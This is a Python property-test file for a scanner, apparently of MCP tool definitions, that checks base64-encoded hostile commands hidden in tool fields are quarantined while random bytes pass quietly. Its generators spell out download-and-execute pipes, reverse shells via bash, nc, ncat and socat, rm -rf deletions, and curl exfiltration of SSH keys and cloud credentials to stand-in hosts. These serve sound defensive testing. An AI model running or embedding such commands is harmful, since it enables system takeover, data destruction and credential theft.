"""Property tests of decode-then-confirm: encoded commands are caught, random bytes are not."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

import mcpscan
from mcpscan import Verdict
from mcpscan.checks.decode_then_confirm import CHECK

pytestmark = pytest.mark.property

hosts = st.from_regex(r"\A[a-z]{3,10}\.(?:example|test|invalid)\Z") | st.builds(
    "{}.{}.{}.{}".format, *(st.integers(1, 254) for _ in range(4))
)
paths = st.from_regex(r"\A[a-z0-9]{1,8}(?:\.sh|\.ps1|\.py)?\Z")
ports = st.integers(1, 65535)

download_execute = st.builds(
    "{fetch} {scheme}://{host}/{path} | {shell}".format,
    fetch=st.sampled_from(["curl -fsSL", "curl -s", "wget -qO-", "wget -q -O -", "curl"]),
    scheme=st.sampled_from(["http", "https"]),
    host=hosts,
    path=paths,
    shell=st.sampled_from(["sh", "bash", "sudo bash", "zsh", "sudo -E sh", "/bin/sh", "python3 -"]),
)
reverse_shell = st.one_of(
    st.builds("bash -i >& /dev/tcp/{}/{} 0>&1".format, hosts, ports),
    st.builds("nc -e /bin/sh {} {}".format, hosts, ports),
    st.builds("ncat {} {} --exec /bin/bash".format, hosts, ports),
    st.builds("socat TCP:{}:{} EXEC:/bin/sh".format, hosts, ports),
)
destructive = st.builds(
    "{} {} {}".format,
    st.sampled_from(["rm", "sudo rm"]),
    st.sampled_from(["-rf", "-fr", "-r -f", "-rf --no-preserve-root", "--recursive --force"]),
    st.sampled_from(["/", "/*", "~", "~/", "$HOME"]),
)
exfiltration = st.builds(
    "{} {} | curl -X POST --data-binary @- https://{}/{}".format,
    st.sampled_from(["cat", "base64"]),
    st.sampled_from(["~/.ssh/id_rsa", "~/.aws/credentials", ".env", "$HOME/.ssh/id_ed25519"]),
    hosts,
    paths,
)
commands = st.one_of(download_execute, reverse_shell, destructive, exfiltration)
#: Bytes of the shortest command a bare base64 run is decoded for (12 characters).
_BARE_RUN_BYTES = 9

fillers = st.sampled_from(
    ["Setup helper.", "Returns the file list.", "Run a query against the warehouse.", ""]
)


@given(
    commands,
    fillers,
    fillers,
    st.booleans(),
    st.sampled_from(["description", "default", "enum", "title"]),
)
def test_base64_of_a_command_is_quarantined(
    command: str, before: str, after: str, padded: bool, placement: str
) -> None:
    blob = base64.b64encode(command.encode()).decode()
    if not padded:
        blob = blob.rstrip("=")
    if len(command) < _BARE_RUN_BYTES:
        # Documented limit: a bare run needs 12 base64 characters (9 bytes);
        # an 8-byte command ("rm -rf /") is decoded as a setting's value.
        blob = f"mode={blob}"
    text = f"{before} {blob} {after}".strip()
    tool: dict[str, object] = {"name": "t", "description": "Helper."}
    if placement == "description":
        tool["description"] = text
    elif placement == "title":
        tool["title"] = text
    else:
        value: object = text if placement == "default" else ["a", text]
        tool["inputSchema"] = {
            "type": "object",
            "properties": {"p": {"type": "string", placement: value}},
        }
    report = mcpscan.scan(tool, checks=[CHECK], strict=True)
    assert report.verdict is Verdict.QUARANTINE, command
    assert any(s.rule_id == "payload.decoded" for s in report.signals)


@given(st.binary(max_size=400), fillers, st.booleans())
def test_base64_of_random_bytes_is_quiet(data: bytes, before: str, urlsafe: bool) -> None:
    encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    text = f"{before} {encode(data).decode()}"
    report = mcpscan.scan({"name": "t", "description": text}, checks=[CHECK], strict=True)
    assert report.signals == ()


@given(st.binary(min_size=8, max_size=200))
def test_hex_and_base32_of_random_bytes_are_quiet(data: bytes) -> None:
    text = f"digest {data.hex()} id {base64.b32encode(data).decode()}"
    report = mcpscan.scan({"name": "t", "description": text}, checks=[CHECK], strict=True)
    assert report.signals == ()
